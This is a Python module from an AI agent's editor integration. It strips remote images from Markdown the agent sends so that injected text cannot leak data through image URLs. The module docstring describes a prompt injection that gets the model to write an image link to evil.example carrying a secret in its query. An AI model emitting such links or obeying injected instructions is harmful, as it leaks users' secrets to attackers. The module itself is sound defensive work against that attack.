"""Text for the editor with no remote image in it: the editor renders what the agent sends as
Markdown, and an image it loads sends its URL — query and all — with no tool call and no
approval. A prompt injection that gets the model to write `![x](https://evil.example/?d=SECRET)`
would otherwise leak SECRET as soon as the reply is shown.

Every image that could load from off the machine — Markdown `![alt](url)` (entities and escapes in
the address decoded as the renderer decodes them), reference-style `![alt][ref]`, an HTML tag
(`<img src>`, `srcset`, `poster`, a style's `url(…)`) — whose host is not on the run's egress
allow-list (`safety/egress.py`'s host check) becomes a placeholder naming its host, as the serve
page's Content-Security-Policy blocks it there. Local images (relative paths, `file:`, `data:`)
stay. Links are left alone: following one is the user's click, and the editor shows where it goes.

The rule is "every `![` outside a fenced code block is kept only when it parses, the way a
CommonMark renderer parses it, into an inline image with a plain label and an allowed address";
anything less certain (a reference, an odd label, a half-written address) is replaced, and a
`<` that may or may not open a tag becomes `&lt;`, so a renderer that reads the text otherwise
still finds no image. Fenced and indented code is passed as written, but for a loading tag
or a remote image in it, one that runs over lines too (a renderer that tells the blocks apart
otherwise reads it as prose: `fenced_code.code_line`); in a tag a backslash escapes nothing;
telling code apart (indented code is none in a paragraph's place) means following HTML
blocks (inside one a fence is none), list items (whose fence ends with them) and block quotes
(whose blocks are read after their markers, a tab counted to its column, and end with them)
as CommonMark does, from the text as sent. Inline
code is not exempt: a link or tag that starts before a backtick can end after it, and
backslash escapes do not hold in raw HTML.

Line endings come out as LF: CommonMark's three (LF, CRLF, a lone CR) are one to a renderer,
and the scan reads one, so a fence closed by a CRLF line is closed for it too.

Its parts, one job each: `markdown_scan` walks the text; `markdown_blocks` follows the block
structure (fences, HTML blocks, list items, block quotes), `fenced_code` looks at code lines,
`markdown_inline` at images and tags in prose, and `image_policy` says which addresses may
load and what stands in for one that may not.

Streamed text is held back only from the start of an unfinished image or tag, or a line's first
few characters (or a line in an HTML block) until what it is shows, so prose passes at once.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any

from acp.schema import (
    AgentMessageChunk,
    AgentPlanUpdate,
    AgentThoughtChunk,
    ContentToolCallContent,
    TextContentBlock,
    ToolCallProgress,
    ToolCallStart,
    ToolCallUpdate,
    UserMessageChunk,
)

from loopwright.acp.markdown_blocks import LineState
from loopwright.acp.markdown_scan import scan


@dataclass(frozen=True)
class MarkdownGuard:
    """The editor's text made inert for one session: `allowed` is its egress allow-list."""

    allowed: Sequence[str] = ()

    def text(self, text: str) -> str:
        """A whole text (a tool result, a title, a replayed message) made inert."""
        return scan(_one_line_ending(text), LineState(), final=True, allowed=self.allowed)[0]

    def stream(self) -> InertStream:
        return InertStream(self)

    def update(self, update: Any) -> Any:
        """A session update (or a permission question's tool call) whose Markdown the editor
        renders, made inert; a diff's old and new text are left exact."""
        if isinstance(update, AgentMessageChunk | AgentThoughtChunk | UserMessageChunk):
            if isinstance(update.content, TextContentBlock):
                content = update.content.model_copy(update={"text": self.text(update.content.text)})
                return update.model_copy(update={"content": content})
            return update
        if isinstance(update, AgentPlanUpdate):
            entries = [entry.model_copy(update={"content": self.text(entry.content)})
                       for entry in update.entries]
            return update.model_copy(update={"entries": entries})
        if isinstance(update, ToolCallStart | ToolCallProgress | ToolCallUpdate):
            changes: dict[str, Any] = {}
            if update.title is not None:
                changes["title"] = self.text(update.title)
            if update.content is not None:
                changes["content"] = [self._tool_content(part) for part in update.content]
            if isinstance(update.raw_output, str):  # a client may show it as the result
                changes["raw_output"] = self.text(update.raw_output)
            # Zed shows the raw input of a call the user expands: a string as Markdown (the
            # arguments of a call that did not parse), an object as JSON in a fence, which
            # no line of JSON can close (docs/editors.md)
            if isinstance(update.raw_input, str):
                changes["raw_input"] = self.text(update.raw_input)
            return update.model_copy(update=changes)
        return update

    def _tool_content(self, part: Any) -> Any:
        if isinstance(part, ContentToolCallContent) and isinstance(part.content, TextContentBlock):
            block = part.content.model_copy(update={"text": self.text(part.content.text)})
            return part.model_copy(update={"content": block})
        return part


@dataclass
class InertStream:
    """One streamed message (or thought): `feed` each delta, `end` when the editor's Markdown
    block ends (another kind of update comes, or the turn ends)."""

    guard: MarkdownGuard
    _pending: str = ""
    _lines: LineState = field(default_factory=LineState)
    _after_cr: bool = False  # the last delta ended with a CR: an LF first in the next is its

    def feed(self, text: str) -> str:
        if self._after_cr and text.startswith("\n"):
            text, self._after_cr = text[1:], False  # (an LF after it is a line ending again)
        if text:
            self._after_cr = text.endswith("\r")
        self._pending += _one_line_ending(text)
        out, used = scan(self._pending, self._lines, final=False, allowed=self.guard.allowed)
        self._pending = self._pending[used:]
        return out

    def end(self) -> str:
        out = scan(self._pending, self._lines, final=True, allowed=self.guard.allowed)[0]
        self._pending, self._lines, self._after_cr = "", LineState(), False
        return out


def _one_line_ending(text: str) -> str:
    """CRLF and a lone CR as LF: CommonMark's three line endings are one to a renderer, and the
    scan reads one (a fence whose closing line ends in CRLF is closed)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


